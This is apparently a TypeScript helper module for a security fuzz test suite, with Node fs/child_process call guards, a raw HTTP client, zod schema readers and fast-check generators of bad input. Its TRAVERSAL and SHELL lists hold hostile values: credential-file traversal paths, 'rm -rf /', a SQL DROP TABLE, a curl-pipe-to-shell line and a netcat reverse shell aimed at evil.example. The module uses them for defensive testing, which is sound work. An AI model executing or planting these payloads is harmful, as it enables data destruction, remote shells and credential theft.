// Tools for the hostile-input test: guards on the process's file and child-process calls, a raw
// HTTP client (no URL normalisation, any content type, abort on time), a small reader of zod
// schemas, and fast-check arbitraries for hostile values.
import * as childProcess from 'node:child_process';
import * as fs from 'node:fs';
import { request, Agent } from 'node:http';
import { syncBuiltinESMExports, createRequire } from 'node:module';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import type { z } from 'zod';

// ---------------------------------------------------------------------------------------------
// Guards. The CJS objects of node:fs and node:child_process are patched and the ESM named exports
// re-synced, so application code sees the wrappers whichever way it imported the functions.

export interface SpawnRecord {
  fn: string;
  command: string;
  args: string[];
  shell: boolean;
}

export interface IoGuard {
  /** Every child-process call made while watching. */
  spawns: SpawnRecord[];
  /** Every file path a file call named while watching (absolute). */
  files: string[];
  watching: boolean;
  restore(): void;
}

const require = createRequire(import.meta.url);

const SPAWNERS = ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork'] as const;
const FS_CALLS = [
  'open', 'openSync', 'readFile', 'readFileSync', 'writeFile', 'writeFileSync', 'appendFile', 'appendFileSync',
  'stat', 'statSync', 'lstat', 'lstatSync', 'access', 'accessSync', 'existsSync', 'readdir', 'readdirSync',
  'createReadStream', 'createWriteStream', 'mkdir', 'mkdirSync', 'rename', 'renameSync', 'rm', 'rmSync',
  'unlink', 'unlinkSync', 'copyFile', 'copyFileSync', 'realpath', 'realpathSync', 'symlink', 'symlinkSync', 'truncate', 'truncateSync',
] as const;
const FS_PROMISE_CALLS = ['open', 'readFile', 'writeFile', 'appendFile', 'stat', 'lstat', 'access', 'readdir', 'mkdir', 'rename', 'rm', 'unlink', 'copyFile', 'realpath', 'symlink', 'truncate', 'mkdtemp', 'cp'] as const;
/** Calls that name two paths. */
const TWO_PATHS = new Set(['rename', 'renameSync', 'copyFile', 'copyFileSync', 'symlink', 'symlinkSync', 'cp']);

function pathOf(arg: unknown): string | null {
  if (typeof arg === 'string') return path.resolve(arg);
  if (Buffer.isBuffer(arg)) return path.resolve(arg.toString('utf8'));
  if (arg instanceof URL && arg.protocol === 'file:') return fileURLToPath(arg);
  return null;
}

export function installIoGuard(): IoGuard {
  const cp = require('node:child_process') as Record<string, unknown>;
  const fsCjs = require('node:fs') as Record<string, unknown>;
  const fsp = fsCjs.promises as Record<string, unknown>;
  const originals: [Record<string, unknown>, string, unknown][] = [];
  const guard: IoGuard = { spawns: [], files: [], watching: false, restore };

  const wrap = (target: Record<string, unknown>, name: string, record: (args: unknown[]) => void) => {
    const original = target[name];
    if (typeof original !== 'function') return;
    originals.push([target, name, original]);
    const wrapped = function (this: unknown, ...args: unknown[]) {
      if (guard.watching) record(args);
      return (original as (...a: unknown[]) => unknown).apply(this, args);
    };
    Object.defineProperties(wrapped, Object.getOwnPropertyDescriptors(original));
    target[name] = wrapped;
  };

  for (const name of SPAWNERS) {
    wrap(cp, name, (args) => {
      const [command, second, third] = args;
      const list = Array.isArray(second) ? (second as unknown[]).map(String) : [];
      const opts = (Array.isArray(second) ? third : second) as { shell?: unknown } | undefined;
      // exec and execSync always run their command through /bin/sh.
      const shell = name === 'exec' || name === 'execSync' || Boolean(opts && typeof opts === 'object' && opts.shell);
      guard.spawns.push({ fn: name, command: String(command), args: list, shell });
    });
  }
  const recordPaths = (name: string) => (args: unknown[]) => {
    for (const a of TWO_PATHS.has(name) ? args.slice(0, 2) : args.slice(0, 1)) {
      const p = pathOf(a);
      if (p) guard.files.push(p);
    }
  };
  for (const name of FS_CALLS) wrap(fsCjs, name, recordPaths(name));
  for (const name of FS_PROMISE_CALLS) wrap(fsp, name, recordPaths(name));
  syncBuiltinESMExports();

  function restore() {
    for (const [target, name, original] of originals.reverse()) target[name] = original;
    syncBuiltinESMExports();
  }
  return guard;
}

/** The namespaces the application imports, to prove the guard sees calls made through them. */
export const guarded = { childProcess, fs };

export const inside = (file: string, dir: string): boolean => {
  const rel = path.relative(path.resolve(dir), file);
  return rel === '' || (rel !== '..' && !rel.startsWith(`..${path.sep}`) && !path.isAbsolute(rel));
};

// ---------------------------------------------------------------------------------------------
// A raw HTTP client: the path goes out as given, the body with the headers given.

export interface RawRequest {
  method: string;
  /** Path and query, sent as is (must be printable latin-1 without spaces). */
  path: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
  /** Send the body chunked, without content-length. */
  chunked?: boolean;
  timeoutMs?: number;
}

export interface RawResponse {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  text: string;
  /** The stream was cut by the client after its first bytes (an SSE stream that opened). */
  streamed: boolean;
  timedOut: boolean;
}

const agent = new Agent({ keepAlive: true, maxSockets: 16 });

export function send(base: string, r: RawRequest): Promise<RawResponse> {
  const url = new URL(base);
  return new Promise((resolve, reject) => {
    let settled = false;
    const finish = (res: RawResponse) => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      resolve(res);
    };
    const req = request({
      host: url.hostname,
      port: url.port,
      method: r.method,
      path: r.path,
      agent,
      headers: {
        ...(r.body !== undefined && !r.chunked ? { 'content-length': String(Buffer.byteLength(r.body)) } : {}),
        ...r.headers,
      },
    });
    const timer = setTimeout(() => {
      req.destroy();
      finish({ status: -1, headers: {}, text: '', streamed: false, timedOut: true });
    }, r.timeoutMs ?? 5_000);
    req.on('response', (res) => {
      const sse = String(res.headers['content-type'] ?? '').startsWith('text/event-stream');
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => {
        if (text.length < 64 * 1024) text += chunk;
        // An open stream: its first bytes (or a short wait) are all the test needs.
        if (sse) setTimeout(() => (req.destroy(), finish({ status: res.statusCode ?? 0, headers: res.headers, text, streamed: true, timedOut: false })), 150);
      });
      if (sse) setTimeout(() => (req.destroy(), finish({ status: res.statusCode ?? 0, headers: res.headers, text, streamed: true, timedOut: false })), 400);
      res.on('end', () => finish({ status: res.statusCode ?? 0, headers: res.headers, text, streamed: false, timedOut: false }));
      res.on('error', () => finish({ status: res.statusCode ?? 0, headers: res.headers, text, streamed: false, timedOut: false }));
    });
    req.on('error', (err) => {
      if (!settled) {
        settled = true;
        clearTimeout(timer);
        reject(err);
      }
    });
    if (r.body !== undefined) {
      if (r.chunked) {
        const body = Buffer.from(r.body);
        for (let i = 0; i < body.length; i += 64 * 1024) req.write(body.subarray(i, i + 64 * 1024));
      } else req.write(r.body);
    }
    req.end();
  });
}

export function closeAgent(): void {
  agent.destroy();
}

/** Percent-encodes every byte outside the unreserved set (lone surrogates become U+FFFD). */
export function encode(value: string): string {
  let out = '';
  for (const b of Buffer.from(value, 'utf8')) {
    const c = String.fromCharCode(b);
    out += /[A-Za-z0-9\-_.~]/.test(c) ? c : `%${b.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Reading zod schemas (zod 4 internals: `_zod.def`).

interface Def {
  type: string;
  shape?: Record<string, z.ZodType>;
  catchall?: z.ZodType;
  innerType?: z.ZodType;
  in?: z.ZodType;
  element?: z.ZodType;
  keyType?: z.ZodType;
  valueType?: z.ZodType;
  entries?: Record<string, string | number>;
  format?: string;
  checks?: { _zod: { def: { check: string; maximum?: number; minimum?: number } } }[];
}

export const defOf = (s: z.ZodType): Def => (s as unknown as { _zod: { def: Def } })._zod.def;

/** The schema under optional/default/nullable/pipe wrappers, and whether the field may be absent. */
export function unwrap(s: z.ZodType): { schema: z.ZodType; optional: boolean } {
  let cur = s;
  let optional = false;
  for (;;) {
    const d = defOf(cur);
    if (d.type === 'optional' || d.type === 'default' || d.type === 'prefault') optional = true;
    if ((d.type === 'optional' || d.type === 'default' || d.type === 'prefault' || d.type === 'nullable' || d.type === 'readonly') && d.innerType) cur = d.innerType;
    else if (d.type === 'pipe' && d.in) cur = d.in;
    else return { schema: cur, optional };
  }
}

export function objectShape(s: z.ZodType | undefined): Record<string, z.ZodType> | null {
  if (!s) return null;
  const d = defOf(unwrap(s).schema);
  return d.type === 'object' ? (d.shape ?? {}) : null;
}

export const isStrict = (s: z.ZodType): boolean => {
  const d = defOf(unwrap(s).schema);
  return d.type === 'object' && d.catchall !== undefined && defOf(d.catchall).type === 'never';
};

/** A string field whose values are constrained by a format, a pattern or an enum; else free text. */
export function isConstrained(s: z.ZodType): boolean {
  const d = defOf(unwrap(s).schema);
  if (d.type === 'enum' || d.type === 'literal' || d.type === 'number' || d.type === 'boolean') return true;
  if (d.type !== 'string') return true;
  return d.format !== undefined || (d.checks ?? []).some((c) => c._zod.def.check === 'string_format');
}

export const maxLength = (s: z.ZodType): number | undefined =>
  defOf(unwrap(s).schema).checks?.find((c) => c._zod.def.check === 'max_length')?._zod.def.maximum;

// The last two: a webhook endpoint id and URL (a name, accepted when added; a delivery to it is
// refused, since it resolves to loopback: nothing leaves the machine).
const CANDIDATES = ['web', 'platform-web-1', 'alice', 'A_KEY', '10', '2024-05-01T10:00:00Z', 'x', '00000000-0000-4000-8000-000000000000', 'http://localhost:9/hook'];

/** A value the schema accepts, built from its shape (the first candidate that parses, for strings). */
export function sample(s: z.ZodType): unknown {
  const inner = unwrap(s).schema;
  const d = defOf(inner);
  switch (d.type) {
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const [k, v] of Object.entries(d.shape ?? {})) if (!unwrap(v).optional) out[k] = sample(v);
      return out;
    }
    case 'enum':
      return Object.values(d.entries ?? {})[0];
    case 'number':
      return 1;
    case 'boolean':
      return true;
    case 'array':
      return [];
    case 'record':
      return {};
    default: {
      const hit = CANDIDATES.find((c) => s.safeParse(c).success);
      if (hit === undefined) throw new Error(`no sample value for a ${d.type} schema`);
      return hit;
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Hostile values.

export const TRAVERSAL = [
  '../../etc/passwd', '..%2f..%2fetc%2fpasswd', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '%252e%252e%252fetc%252fpasswd', '....//....//etc/passwd',
  '..\\..\\windows\\win.ini', '/etc/passwd', 'file:///etc/passwd', 'web/../../../etc/shadow', 'web\u0000.txt', '%00', '..%00/', '%c0%ae%c0%ae/etc/passwd',
  '/proc/self/environ', '~/.ssh/id_rsa',
];
export const SHELL = [
  '; rm -rf /', '$(reboot)', '`id`', '| cat /etc/passwd', '&& shutdown -h now', 'web\nrm -rf /', 'web\r\nX-Injected: 1', "'; DROP TABLE deployment_jobs; --",
  '${IFS}cat${IFS}/etc/passwd', '> /tmp/pwned', 'web; touch /tmp/pwned', '$(curl evil.example | sh)', 'web|nc -e /bin/sh evil.example 4444',
];
export const UNICODE = ['\u202eweb', 'w\u200beb', 'ｗｅｂ', 'wéb', '🐳', '\ud800', 'web\u0085', '\u0000', ' ', '', '\t'];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...TRAVERSAL, ...SHELL, ...UNICODE),
  fc.string({ minLength: 300, maxLength: 3000 }),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }),
  fc.tuple(fc.constantFrom(...SHELL, ...TRAVERSAL), fc.string({ maxLength: 8 })).map(([a, b]) => a + b),
);

/** Not an ISO 8601 instant the log routes accept (checked with their parser). */
export const badIso = (accepts: (v: string) => boolean): fc.Arbitrary<string> =>
  fc
    .oneof(
      fc.constantFrom(
        '2024-13-01T00:00:00Z', '2024-02-30', '2024-04-31T10:00:00Z', '1969-12-31T23:59:59Z', '2024-05-01T24:00:00Z', '2024-05-01T10:60:00Z',
        '2024-05-01T10:00:00+25:00', 'yesterday', 'now', '0', '-1', '1714557600', '2024-05-01T10:00:00ZZ', '2024/05/01', '', ' 2024-05-01',
        '2024-05-01T10:00:00.1234567890Z', '+275760-09-13T00:00:00Z', '99999-01-01', 'NaN', 'Infinity', '2024-05-01T10:00:00 Z', '2024-W18-3',
      ),
      fc.date({ noInvalidDate: true }).map((d) => d.toString()),
      fc.date({ noInvalidDate: true }).map((d) => d.toUTCString()),
      fc.date({ noInvalidDate: true }).map((d) => String(d.getTime())),
      fc.date({ noInvalidDate: true }).map((d) => d.toISOString().replace('T', ' ').replace('Z', ' UTC')),
      hostileString,
    )
    .filter((v) => !accepts(v));

/** Not a non-negative decimal integer of at most 15 digits: negative, huge, fractional, NaN, hex, … */
export const badSeq: fc.Arbitrary<string> = fc
  .oneof(
    fc.integer({ max: -1 }).map(String),
    fc.bigInt({ min: 10n ** 15n, max: 10n ** 40n }).map(String),
    fc.double({ noNaN: false }).map(String),
    fc.constantFrom('NaN', 'Infinity', '-Infinity', '-0', '1.5', '1e3', '0x10', '0b1', ' 1', '1 ', '+1', '9007199254740993', '1e309', '١٢', '1_000'),
    hostileString,
  )
  .filter((v) => v !== '' && !/^\d{1,15}$/.test(v));

/** Not a line or row count in [min, max]: negative, zero (when min is 1), over the maximum, huge, fractional, not a number. */
export const badCount = (min: number, max: number): fc.Arbitrary<string> =>
  fc
    .oneof(
      fc.integer({ max: min - 1 }).map(String),
      fc.integer({ min: max + 1 }).map(String),
      fc.bigInt({ min: 10n ** 10n, max: 10n ** 40n }).map(String),
      fc.double({ noNaN: false }).filter((n) => !Number.isInteger(n)).map(String),
      fc.constantFrom('NaN', 'Infinity', '-0', '1e9', '1e3', '0x10', '0b11', ' 5', '5 ', '+5', '5.0', '', 'true', '[]', '1,2'),
      hostileString,
    )
    .filter((v) => !(/^\d+$/.test(v) && Number(v) >= min && Number(v) <= max));

/** A name that looks right but names nothing on the platform. */
export const unknownName: fc.Arbitrary<string> = fc
  .stringMatching(/^[a-z][a-z0-9_.-]{0,20}$/)
  .map((s) => `ghost-${s}`);

/** JSON values of the wrong type for a field of the given kind. */
export function wrongTypes(kind: string): fc.Arbitrary<unknown> {
  const all = fc.oneof(
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(fc.string(), { maxLength: 3 }),
    fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
    fc.string({ maxLength: 10 }),
  );
  return all.filter((v) => {
    if (kind === 'string' || kind === 'enum') return typeof v !== 'string';
    if (kind === 'array') return !Array.isArray(v);
    if (kind === 'record' || kind === 'object') return v === null || typeof v !== 'object' || Array.isArray(v);
    if (kind === 'number') return typeof v !== 'number';
    if (kind === 'boolean') return typeof v !== 'boolean';
    return true;
  });
}
